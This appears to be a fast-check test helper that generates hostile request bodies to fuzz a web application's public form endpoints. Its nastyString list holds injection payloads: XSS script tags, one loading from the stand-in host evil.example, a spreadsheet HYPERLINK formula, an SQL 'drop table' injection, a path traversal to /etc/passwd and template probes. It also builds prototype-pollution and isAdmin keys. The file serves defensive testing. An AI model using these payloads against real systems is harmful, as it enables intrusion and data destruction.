/**
 * fast-check generators of hostile HTTP bodies for the public endpoints: mostly "valid-ish"
 * form payloads (each field usually plausible, sometimes any string, unicode, NUL, markup, a
 * huge string, null, a number, an object…), plus extra and prototype-polluting keys, duplicate
 * keys, wrong content types, malformed JSON and plain garbage.
 */
import fc from "fast-check";
import { MAX_BODY_BYTES } from "../../server/http/api";

/** Strings that have broken web forms before: markup, formulas, NUL, lone surrogates, RTL… */
export const nastyString = fc.constantFrom(
  "<script>alert(1)</script>",
  '"><script src=//evil.example/x.js></script>',
  "<ScRiPt>alert(document.cookie)</sCrIpT>",
  "<img src=x onerror=alert(1)>",
  "javascript:alert(1)",
  '=HYPERLINK("http://evil.example","click")',
  "+1-2",
  "@SUM(A1:A9)",
  "\tTab",
  "\rCR",
  "\u0000",
  "a\u0000b",
  "\ud800",
  "\udfff lone",
  "\u202Eevil\u202C",
  "'; drop table contact_inquiries; --",
  "%00%0d%0a",
  "../../../../etc/passwd",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template-injection probe, on purpose.
  "${7*7}{{7*7}}",
  "İstanbul ß ǅ ﬃ",
  "🍀".repeat(50),
  "\u00A0\u2003 \uFEFF",
  " ",
  "",
);

/** Any unicode text, including astral characters and lone surrogate halves. */
export const anyText = fc.oneof(
  fc.string({ maxLength: 60 }),
  fc.string({ unit: "grapheme", maxLength: 40 }),
  fc.string({
    unit: fc.integer({ min: 0, max: 0xffff }).map((code) => String.fromCharCode(code)),
    maxLength: 30,
  }),
  nastyString,
  nastyString.chain((nasty) => fc.string({ maxLength: 10 }).map((text) => `${text}${nasty}`)),
);

/** Longer than any field allows; the largest ones are over the body limit (413). */
const hugeString = fc
  .constantFrom(81, 121, 151, 255, 2_001, 5_001, 40_000, MAX_BODY_BYTES + 1)
  .chain((length) => fc.constantFrom("x", "é", "🍀", "<").map((unit) => unit.repeat(length)));

const wrongType = fc.oneof(
  fc.constantFrom(null, true, false, 0, -1, 1.5, 1e308, -0, [], {}, [""], { value: "x" }),
  fc.jsonValue({ maxDepth: 2 }),
);

/** A field: usually `plausible`, otherwise any text, a huge string or a wrong type. */
export function field(plausible: fc.Arbitrary<unknown>): fc.Arbitrary<unknown> {
  return fc.oneof(
    { weight: 24, arbitrary: plausible },
    { weight: 2, arbitrary: anyText },
    { weight: 1, arbitrary: hugeString },
    { weight: 1, arbitrary: wrongType },
  );
}

/** Plausible text: a real-looking value, sometimes with unicode or markup around it. */
export const plausibleText = (sample: string) =>
  fc.oneof(
    { weight: 4, arbitrary: fc.constant(sample) },
    { weight: 2, arbitrary: anyText.map((text) => `${sample} ${text}`) },
    { weight: 1, arbitrary: fc.constant(`  ${sample}  `) },
  );

export const plausibleEmail = fc.oneof(
  fc
    .tuple(
      fc.stringMatching(/^[a-z0-9][a-z0-9._-]{0,20}$/),
      fc.constantFrom("example.com", "Ex.IE"),
    )
    .map(([local, domain]) => `${local}@${domain}`),
  fc.constant("  Ana.Garcia@Example.COM "),
  fc.emailAddress(),
);

/** Keys a client must never control, and keys that pollute prototypes when merged naively. */
const extraKey = fc.oneof(
  fc.constantFrom(
    "__proto__",
    "constructor",
    "prototype",
    "id",
    "status",
    "createdAt",
    "gdprConsentAt",
    "totalCost",
    "programTitle",
    "confirmTokenHash",
    "isAdmin",
    "role",
    "<script>alert(1)</script>",
  ),
  fc.string({ maxLength: 12 }),
);

const extraValue = fc.oneof(
  fc.constant({ polluted: "yes", isAdmin: true }),
  fc.constant({ prototype: { polluted: "yes" } }),
  fc.jsonValue({ maxDepth: 2 }),
);

/**
 * A JSON object written out by hand, so that `__proto__` is an own key of the text (as an
 * attacker would send it) and keys may repeat.
 */
function objectText(entries: [string, unknown][]): string {
  return `{${entries
    .filter(([, value]) => value !== undefined)
    .map(([key, value]) => `${JSON.stringify(key)}:${JSON.stringify(value)}`)
    .join(",")}}`;
}

export interface GeneratedRequest {
  contentType: string;
  body: string;
}

const JSON_TYPES = ["application/json", "application/json; charset=utf-8", "Application/JSON"];
const OTHER_TYPES = [
  "text/plain",
  "application/x-www-form-urlencoded",
  "multipart/form-data; boundary=x",
  "text/html",
  "",
];

/** Bodies for an endpoint whose form has these fields (each with its plausible values). */
export function requestsFor(fields: Record<string, fc.Arbitrary<unknown>>) {
  const keys = Object.keys(fields);
  const formEntries = fc
    .tuple(
      ...keys.map((key) =>
        fc.oneof(
          { weight: 24, arbitrary: field(fields[key] as fc.Arbitrary<unknown>) },
          { weight: 1, arbitrary: fc.constant(undefined) },
        ),
      ),
    )
    .map((values) => keys.map((key, index): [string, unknown] => [key, values[index]]));
  const extras = fc.array(fc.tuple(extraKey, extraValue), { maxLength: 3 });

  const formBody = fc
    .tuple(formEntries, extras, fc.nat({ max: 9 }))
    .map(([entries, extra, position]) => {
      const all = [...entries];
      all.splice(position % (all.length + 1), 0, ...extra);
      return objectText(all);
    });
  const garbage = fc.oneof(
    fc.jsonValue({ maxDepth: 3 }).map((value) => JSON.stringify(value) ?? "null"),
    fc.string({ maxLength: 80 }),
    formBody.map((text) => text.slice(0, Math.max(1, Math.floor(text.length / 2)))),
    fc.constantFrom("", "{", "[", "{}", "[]", "null", '{"a":}', "\u0000", "{'a':1}", "NaN"),
  );

  return fc.oneof(
    {
      weight: 16,
      arbitrary: fc.record({ contentType: fc.constantFrom(...JSON_TYPES), body: formBody }),
    },
    {
      weight: 3,
      arbitrary: fc.record({ contentType: fc.constantFrom(...JSON_TYPES), body: garbage }),
    },
    {
      weight: 1,
      arbitrary: fc.record({
        contentType: fc.constantFrom(...OTHER_TYPES),
        body: fc.oneof(formBody, garbage),
      }),
    },
  );
}

export function isJsonContentType(type: string): boolean {
  return /^application\/json\b/i.test(type);
}

export function parsesAsJson(text: string): boolean {
  try {
    JSON.parse(text);
    return true;
  } catch {
    return false;
  }
}
